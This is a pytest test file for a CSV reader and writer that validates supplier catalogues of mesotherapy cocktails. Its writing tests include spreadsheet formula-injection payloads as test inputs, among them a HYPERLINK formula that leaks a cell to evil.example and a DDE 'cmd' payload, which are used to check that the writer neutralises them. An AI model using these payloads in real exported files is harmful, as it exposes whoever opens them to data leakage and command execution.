"""Supplier CSV reading (strict numbers, header checks, row numbers) and safe CSV writing."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from meso_formulary.errors import Problem, UnreadableInput
from meso_formulary.files import (
    check_catalogue,
    csv_safe_cell,
    parse_csv,
    read_catalogue,
    read_document,
    validate_document,
    write_csv,
)

FIXTURE = Path(__file__).parent / "fixtures" / "acme-supplier.csv"

HEADER = "supplier_id,supplier_name,cocktail_id,cocktail_name,description,ingredient,value,unit"
ROW = "acme,Acme,hair,Hair,Scalp cocktail,{ingredient},{value},{unit}"


def csv_text(*rows: str, header: str = HEADER) -> str:
    return "\n".join((header, *rows)) + "\n"


def line(ingredient: str = "biotin", value: str = "5", unit: str = "mg/mL") -> str:
    return ROW.format(ingredient=ingredient, value=value, unit=unit)


def problems_of(text: str) -> list[Problem]:
    with pytest.raises(UnreadableInput) as caught:
        parse_csv(text, "f.csv")
    assert all(problem.file == "f.csv" for problem in caught.value.problems)
    return list(caught.value.problems)


# ---------------------------------------------------------------- reading


def test_the_fixture_reads_as_a_valid_catalogue() -> None:
    catalogue = read_catalogue(FIXTURE)
    assert catalogue.supplier.id == "acme" and catalogue.version == 3
    ids = [cocktail.id for cocktail in catalogue.cocktails]
    assert ids == ["acme/hair-revive", "acme/bright-tone", "acme/amino-boost"]
    hair, bright, amino = catalogue.cocktails
    assert [line.ingredient for line in hair.composition] == [
        "biotin",
        "dexpanthenol",
        "sodium-hyaluronate",
    ]
    assert hair.vial_volume_ml == 5.0 and hair.ph == 6.8
    assert bright.description == "Depigmenting cocktail:\ntranexamic acid and niacinamide."
    assert [area.value for area in bright.areas] == ["face", "cheeks", "forehead"]
    assert amino.composition[1].strength is None  # undisclosed: value and unit empty
    assert amino.ph is None


def test_rows_map_to_lines_for_validation_problems(tmp_path: Path) -> None:
    text = FIXTURE.read_text(encoding="utf-8").replace(
        "niacinamide,1,% w/v", "niacinamide,1,furlongs"
    )
    path = tmp_path / "bad.csv"
    path.write_text(text, encoding="utf-8")
    catalogue, problems = check_catalogue(path)
    assert catalogue is None
    [problem] = problems
    assert problem.path == "cocktails.1.composition.1.strength.unit"
    assert problem.line == 6  # spreadsheet row 6 (file line 7: row 5 spans two lines)
    assert problem.value == "furlongs"


def test_cocktail_level_problems_point_at_the_row_that_gave_the_value() -> None:
    text = csv_text(
        line(),
        "acme,Acme,hair,Hair,,dexpanthenol,20,mg/mL",
        header=HEADER,
    ).replace("Scalp cocktail", "  ")
    _, problems = validate_document(parse_csv(text, "f.csv"))
    assert [(p.path, p.line) for p in problems] == [("cocktails.0.description", 2)]


def test_a_bom_and_semicolons_are_read(tmp_path: Path) -> None:
    text = csv_text(line(value="5.5")).replace(",", ";")
    path = tmp_path / "excel.csv"
    path.write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    document = read_document(path)
    assert document.data["supplier"] == {"id": "acme", "name": "Acme"}  # type: ignore[index]
    catalogue, problems = validate_document(document)
    assert problems == [] and catalogue is not None
    assert catalogue.cocktails[0].composition[0].strength is not None
    assert catalogue.cocktails[0].composition[0].strength.value == 5.5


def test_header_names_ignore_case_and_spaces() -> None:
    header = (
        " Supplier_ID ,SUPPLIER_NAME,cocktail_id,cocktail_name,description,ingredient,value,Unit"
    )
    assert parse_csv(csv_text(line(), header=header), "f.csv").data is not None


def test_unknown_and_missing_columns_are_named() -> None:
    header = HEADER.replace("unit", "units").replace("description,", "") + ",colour"
    [problem] = problems_of(csv_text(header=header))
    assert problem.line == 1
    assert "unknown columns: 'units', 'colour'" in problem.message
    assert "missing required columns: description, unit" in problem.message


def test_repeated_columns_are_refused() -> None:
    [problem] = problems_of(csv_text(header=HEADER + ",unit"))
    assert "repeated columns: unit" in problem.message


def test_ragged_rows_are_refused_with_their_row_number() -> None:
    problems = problems_of(csv_text(line(), line() + ",EXTRA", "acme,Acme,hair"))
    assert [(p.line, p.message) for p in problems] == [
        (3, "the row has 9 cells but the header has 8"),
        (4, "the row has 3 cells but the header has 8"),
    ]


def test_a_decimal_comma_is_refused_with_row_column_and_value() -> None:
    [problem] = problems_of(csv_text(line(), line("dexpanthenol", '"20,5"')))
    assert (problem.line, problem.path, problem.value) == (3, "value", "20,5")
    assert "decimal comma" in problem.message and "'20.5'" in problem.message
    assert str(problem).startswith("f.csv:3: value: ")


@pytest.mark.parametrize(
    "value",
    ["１２", "١٢", "nan", "NaN", "inf", "-Infinity", "1e400", "12 mg", "0x10", "1_000", "--1"],
)
def test_numbers_are_parsed_strictly(value: str) -> None:
    [problem] = problems_of(csv_text(line(value=value)))
    assert (problem.line, problem.path, problem.value) == (2, "value", value)


@pytest.mark.parametrize(
    ("cell", "expected"), [("20", 20.0), (" 0.5 ", 0.5), ("1e-3", 0.001), ("+3", 3.0), (".5", 0.5)]
)
def test_plain_numbers_are_read(cell: str, expected: float) -> None:
    data = parse_csv(csv_text(line(value=cell)), "f.csv").data
    strength = data["cocktails"][0]["composition"][0]["strength"]  # type: ignore[index]
    assert strength == {"value": expected, "unit": "mg/mL"}


def test_every_unreadable_cell_of_a_row_is_reported() -> None:
    header = HEADER + ",ph,catalogue_version"
    problems = problems_of(csv_text(line(value='"2,5"') + ",7;5,v3", header=header))
    assert [(p.line, p.path) for p in problems] == [
        (2, "value"),
        (2, "ph"),
        (2, "catalogue_version"),
    ]


def test_reading_stops_after_a_hundred_problems() -> None:
    problems = problems_of(csv_text(*[line(value="x")] * 500))
    assert len(problems) == 100 and problems[-1].line == 101


def test_a_value_without_unit_is_refused() -> None:
    [problem] = problems_of(csv_text(line(unit="")))
    assert (problem.line, problem.path) == (2, "unit")


def test_inconsistent_supplier_cells_are_refused() -> None:
    other = line().replace("acme,Acme,", "acme,Acme Ltd,", 1)
    [problem] = problems_of(csv_text(line(), other))
    assert (problem.line, problem.path, problem.value) == (3, "supplier_name", "Acme Ltd")
    assert "differs from row 2" in problem.message


def test_inconsistent_cocktail_cells_are_refused() -> None:
    other = line("dexpanthenol").replace("Scalp cocktail", "Something else")
    [problem] = problems_of(csv_text(line(), other))
    assert (problem.line, problem.path) == (3, "description")


def test_a_slug_is_put_in_the_supplier_namespace_and_full_ids_are_kept() -> None:
    full = line("dexpanthenol").replace(",hair,", ",acme/hair,")
    data = parse_csv(csv_text(line(), full), "f.csv").data
    [cocktail] = data["cocktails"]  # type: ignore[index]
    assert cocktail["id"] == "acme/hair" and len(cocktail["composition"]) == 2


def test_blank_and_empty_rows_are_skipped() -> None:
    text = csv_text(line(), "", ",,,,,,,", line("dexpanthenol"))
    [cocktail] = parse_csv(text, "f.csv").data["cocktails"]  # type: ignore[index]
    assert len(cocktail["composition"]) == 2


def test_cells_larger_than_the_csv_default_limit_are_read() -> None:
    description = "x" * 200_000
    text = csv_text(line()).replace("Scalp cocktail", description)
    [cocktail] = parse_csv(text, "f.csv").data["cocktails"]  # type: ignore[index]
    assert cocktail["description"] == description


def test_broken_quoting_is_reported_with_its_row() -> None:
    problems = problems_of(csv_text(line(), 'acme,Acme,hair,"Ha"ir,d,biotin,5,mg/mL'))
    assert problems[-1].line == 3 and problems[-1].message.startswith("CSV error")


def test_an_empty_file_is_refused() -> None:
    assert "empty" in problems_of("")[0].message


def test_latin1_csv_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "latin1.csv"
    path.write_bytes(csv_text(line()).replace("Scalp", "Crème").encode("latin-1"))
    with pytest.raises(UnreadableInput, match="not UTF-8"):
        read_document(path)


def test_an_oversized_csv_is_refused_before_parsing() -> None:
    with pytest.raises(UnreadableInput, match="larger than"):
        parse_csv("x" * 2000, "f.csv", max_bytes=1000)


# ---------------------------------------------------------------- writing


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A2,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\0=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "-",
        "-nan",
    ],
)
def test_formula_cells_are_neutralised(cell: str) -> None:
    assert csv_safe_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        (-0.5, "-0.5"),
        (12, "12"),
        (1e-7, "1e-07"),
        (True, "true"),
        (None, ""),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        (("face", "neck"), "face|neck"),
        (["=x", "y"], "'=x|y"),
    ],
)
def test_safe_values_are_written_as_they_are(value: object, expected: str) -> None:
    assert csv_safe_cell(value) == expected


def test_write_csv_quotes_everything_and_reads_back() -> None:
    stream = io.StringIO()
    rows: list[dict[str, object]] = [
        {"name": "=cmd", "value": -0.5, "note": 'he said "hi"\nbye'},
        {"name": "ok", "value": None},
    ]
    write_csv(rows, stream, ["name", "value", "note"])
    text = stream.getvalue()
    assert text.splitlines()[0] == '"name","value","note"'
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "value", "note"],
        ["'=cmd", "-0.5", 'he said "hi"\nbye'],
        ["ok", "", ""],
    ]


def test_write_csv_raw_mode_keeps_cells_verbatim() -> None:
    stream = io.StringIO()
    write_csv([{"name": "=cmd"}], stream, ["name"], safe=False)
    assert list(csv.reader(io.StringIO(stream.getvalue())))[1] == ["=cmd"]


def test_write_csv_refuses_keys_outside_the_fieldnames() -> None:
    with pytest.raises(ValueError, match="row 1 has keys not in fieldnames: \\['colour'\\]"):
        write_csv([{"name": "x", "colour": "red"}], io.StringIO(), ["name"])
